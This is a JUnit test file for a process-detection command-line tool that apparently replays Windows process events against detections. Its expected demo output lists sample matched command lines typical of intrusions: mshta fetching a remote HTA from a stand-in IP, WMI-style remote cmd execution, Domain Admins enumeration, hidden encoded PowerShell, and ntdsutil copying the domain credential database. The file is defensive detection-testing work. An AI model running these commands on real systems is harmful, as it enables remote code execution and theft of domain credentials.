package io.spawnwatch.cli;

import static org.assertj.core.api.Assertions.assertThat;

import io.spawnwatch.CommandRun;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class DemoCommandTest {
    private static final Pattern FOLDER = Pattern.compile("(?<=all that came of them are in ).*");

    private static final String SHOWN = """
        Running 'Process Execution via WMI' over 4,000 events of one Monday morning ...

        FIRST SEEN (UTC)     DEST                      USER             SCORE  COUNT  COMMAND LINE                                                MARKS
        2026-11-13 17:41:34  lt-0007.corp.example      CORP\\d.tanaka     49.0      1  mshta.exe http://198.51.100.7/update.hta                    late
        2026-11-16 09:02:10  srv-files01.corp.example  CORP\\adm.petrov   49.0      1  cmd.exe /Q /c whoami 1> \\\\127.0.0.1\\ADMIN$\\__1794819750...
        2026-11-16 09:02:28  srv-files01.corp.example  CORP\\adm.petrov   49.0      2  cmd.exe /Q /c net group "Domain Admins" /domain 1> \\\\12...
        2026-11-16 09:02:41  srv-sql02.corp.example    CORP\\adm.petrov   49.0      1  cmd.exe /Q /c tasklist 1> \\\\127.0.0.1\\ADMIN$\\__17948197...
        2026-11-16 09:02:59  srv-sql02.corp.example    CORP\\adm.petrov   49.0      1  powershell.exe -NoP -W Hidden -Enc UwB0AGEAcgB0AC0AUwBs...
        2026-11-16 09:03:08  srv-dc01.corp.example     CORP\\adm.petrov   49.0      1  cmd.exe /Q /c ntdsutil "ac i ntds" ifm "create full c:\\...
        2026-11-16 09:03:23  srv-dc01.corp.example     CORP\\adm.petrov   49.0      1  cmd.exe /Q /c ntdsutil "ac i ntds" ifm "create full c:\\...
        2026-11-18 09:28:21  kiosk-03.corp.example     KIOSK-03\\guest    49.0      1  calc.exe                                                    clock_skew

          events read               4,000   in SECONDS
            process events          2,248
              clock skew               16   time far ahead of arrival; reported, but moves no window
            other events            1,746   in order, but no process creations
            rejected                    6   could not be used; see rejected.jsonl
          matched                      41   events, counted for each detection whose condition they meet
            late                        1   after the allowed lateness; reported all the same
          suppressed                   32   rows that the allowlist covers; see suppressed.jsonl
          risk events                   9   each revision counted

        The events and all that came of them are in FOLDER

        Try next
          the same events without the allowlist:
            java -jar job/target/spawnwatch.jar replay --input FOLDER/process-events.jsonl.gz --output -
          your own events and detections:
            java -jar job/target/spawnwatch.jar replay --input DIR --output FILE.jsonl --detections DIR
          which of your detections run here, and why the others do not:
            java -jar job/target/spawnwatch.jar check --detections DIR
          live on Kafka: 'Live use' in README.md; what an allowlist looks like:
            FOLDER/allowlist.yml
        """;

    @Test
    void showsTheSameEveryTimeAndLeavesItsFilesToLookAt() throws IOException {
        for (int i = 0; i < 2; i++) {
            CommandRun run = CommandRun.successful("demo");
            Matcher named = FOLDER.matcher(run.out());
            assertThat(named.find()).as(run.out()).isTrue();
            Path folder = Path.of(named.group());

            assertThat(run.err()).isEmpty();
            assertThat(run.out().replace(folder.toString(), "FOLDER").replaceFirst("in [0-9.]+ s\n", "in SECONDS\n"))
                    .isEqualTo(SHOWN);
            assertThat(CommandRun.jsonLines(folder.resolve("risk-events.jsonl")))
                    .hasSize(9);
            assertThat(CommandRun.jsonLines(folder.resolve("suppressed.jsonl"))).hasSize(32);
            assertThat(CommandRun.jsonLines(folder.resolve("rejected.jsonl")).stream()
                            .map(one -> one.get("reason").textValue()))
                    .containsExactly("malformed", "malformed", "timeless", "malformed", "malformed", "timeless");
            delete(folder);
        }
    }

    @Test
    void writesItsEventsForOthersToSend(@TempDir Path folder) throws IOException {
        Path file = folder.resolve("events");
        CommandRun run = CommandRun.successful("demo", "--write-events", file.toString());

        assertThat(run.out()).isEmpty();
        byte[] written = Files.readAllBytes(file);
        int lines = 0;
        for (byte one : written) {
            lines += one == '\n' ? 1 : 0;
        }
        assertThat(lines).isEqualTo(4_000);
        assertThat(written[written.length - 1]).isEqualTo((byte) '\n');
    }

    @Test
    void itsEventsKeepTheirTimesOnRequestOnly(@TempDir Path folder) throws IOException {
        Path moved = folder.resolve("moved");
        Path kept = folder.resolve("kept");
        Instant before = Instant.now();
        CommandRun.successful("demo", "--write-events", moved.toString());
        CommandRun.successful("demo", "--write-events", kept.toString(), "--keep-times");

        assertThat(lastTime(kept)).isEqualTo("2026-11-16T10:46:26.221Z");
        assertThat(Instant.parse(lastTime(moved))).isBetween(before.minusSeconds(60), Instant.now());
    }

    /** That of the last event that was written by a Winlogbeat, which gives the time in one piece. */
    private static String lastTime(Path file) throws IOException {
        return Files.readAllLines(file).stream()
                .filter(line -> line.startsWith("{\"@timestamp\":"))
                .filter(line -> !line.contains("kiosk"))
                .reduce((earlier, later) -> later)
                .map(line -> line.split("\"", -1)[3])
                .orElseThrow();
    }

    @Test
    void keepingTimesIsRefusedWhereNoEventsAreWritten() {
        CommandRun run = CommandRun.of("demo", "--keep-times");
        assertThat(run.exitCode()).isEqualTo(2);
        assertThat(run.err()).startsWith("--keep-times needs --write-events");
        assertThat(run.out()).isEmpty();
    }

    private static void delete(Path folder) throws IOException {
        try (Stream<Path> files = Files.list(folder)) {
            for (Path file : files.toList()) {
                Files.delete(file);
            }
        }
        Files.delete(folder);
    }
}
